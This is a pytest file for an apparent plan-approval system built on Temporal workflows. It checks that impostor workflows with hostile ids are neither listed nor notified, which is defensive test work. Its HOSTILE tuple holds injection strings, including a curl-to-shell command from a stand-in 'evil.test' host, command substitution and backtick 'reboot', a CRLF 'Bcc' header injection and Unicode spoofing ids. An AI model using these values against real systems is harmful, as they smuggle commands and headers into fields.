"""Workflows of a client that call themselves plans, under ids that people would paste, click or read."""

import asyncio
from contextlib import suppress
from typing import Any

import pytest
from temporalio import workflow
from temporalio.client import WorkflowFailureError
from temporalio.common import SearchAttributeKey, SearchAttributePair, TypedSearchAttributes
from temporalio.worker import Worker

from airlock.admission.configuration.config import parse_config
from airlock.alerts.routing import Delivery, deliveries
from airlock.base import names
from airlock.client.errors import NoSuchPlan
from airlock.client.inbox_reader import InboxReader, item_of
from airlock.client.listing import PlanSummary, list_plans
from airlock.client.plan_handle import PlanHandle
from airlock.notify.delivery import QUEUE
from airlock.notify.service import Notifier
from airlock.notify.standing import Standing, alert_of
from airlock.plans.state import State
from airlock.run.presentation.views import StatusView, status_view
from tests import running
from tests.core import build
from tests.workflows.conftest import awaiting, step, until
from tests.workflows.notifications import HOOK, KEY
from tests.workflows.receivers import web_receiver

HOSTILE = (
    "plan-x; curl evil.test | sh #",
    "plan-$(reboot)",
    "plan-x\r\nBcc: all@acme.test",
    "plan-https://evil.test/approve",
    "plan-\u202egnp.nalp",
    "plan-ma\u0456n",
    "plan-" + "x" * 400,
    "plan-",
    "undo-`reboot`",
)
STATE = SearchAttributeKey.for_keyword(names.ATTRIBUTE_STATE)
WAITING = TypedSearchAttributes([SearchAttributePair(STATE, State.AWAITING_APPROVAL.value)])


@workflow.defn(name=names.PLAN_WORKFLOW, sandboxed=False)
class Impostor:
    """A workflow that answers the queries of a plan with what it was given."""

    @workflow.init
    def __init__(self, told: dict[str, Any]) -> None:
        self._told = told

    @workflow.run
    async def run(self, told: dict[str, Any]) -> None:
        await workflow.wait_condition(lambda: False)

    @workflow.query
    def status(self) -> dict[str, Any]:
        return self._told


def told_by(workflow_id: str) -> StatusView:
    told = status_view(build.awaiting(build.plan(build.step("a"))))
    return told.model_copy(update={"plan_id": names.plan_id_of(workflow_id)})


@pytest.mark.parametrize("workflow_id", HOSTILE)
def test_no_such_id_is_that_of_a_plan(workflow_id: str) -> None:
    assert not names.is_of_plan(workflow_id)


@pytest.mark.parametrize("workflow_id", ["plan-a", "undo-a.b_c-1", "plan-a-2026-01-01T00:00:00Z", "plan-undo-ish"])
def test_ids_of_plans_are_known(workflow_id: str) -> None:
    assert names.is_of_plan(workflow_id)


async def test_what_no_plan_can_be_called_is_neither_listed_nor_told(airlock_with: Any, plan: Any, monkeypatch: Any) -> None:
    monkeypatch.setenv("AIRLOCK_SECRET_HOOK", KEY)
    airlock = await airlock_with()
    honest = await airlock.submit(plan(step("a", "put", key="k")))
    await awaiting(honest)
    client = airlock.client
    own = Worker(client, task_queue="mallory", workflows=[Impostor])
    async with web_receiver() as hook, running.running([own]):
        for each in HOSTILE:
            given = told_by(each).model_dump(mode="json")
            await client.start_workflow(names.PLAN_WORKFLOW, given, id=each, task_queue="mallory", search_attributes=WAITING)
        kinds = f"WorkflowType = '{names.PLAN_WORKFLOW}'"

        async def seen() -> bool:
            return bool((await client.count_workflows(kinds)).count == len(HOSTILE) + 1)

        await until(seen)
        assert [found.plan_id for found in await list_plans(client)] == [honest.plan_id]
        assert [found.plan_id for found in (await InboxReader(client).read()).items] == [honest.plan_id]

        config = parse_config(HOOK.format(url=hook.url))
        notifier = Notifier(client, config, lambda delivery, how: None)
        async with running.running(notifier.workers()):
            for each in HOSTILE:
                delivery = await due(client, config, each)
                with suppress(WorkflowFailureError):
                    done = await client.execute_workflow(names.NOTIFY_WORKFLOW, delivery, id=delivery.id, task_queue=QUEUE)
                    assert done["sent"] is False
        assert hook.received == []
        with pytest.raises(NoSuchPlan):
            await Standing(client).of_plan(names.plan_id_of(HOSTILE[0]))


async def due(client: Any, config: Any, workflow_id: str) -> Delivery:
    """The delivery that a notifier would start, if it believed that this is a plan."""
    handle = PlanHandle(client, names.plan_id_of(workflow_id))
    summary = PlanSummary(plan_id=handle.plan_id, workflow_id=workflow_id, run_id="r", status="RUNNING")
    async with asyncio.timeout(60):
        item = item_of(summary, await handle.status())
    assert item is not None
    alert = alert_of(item)
    assert alert is not None
    (found, *_) = deliveries((alert,), config.notify, config.policy)
    return found
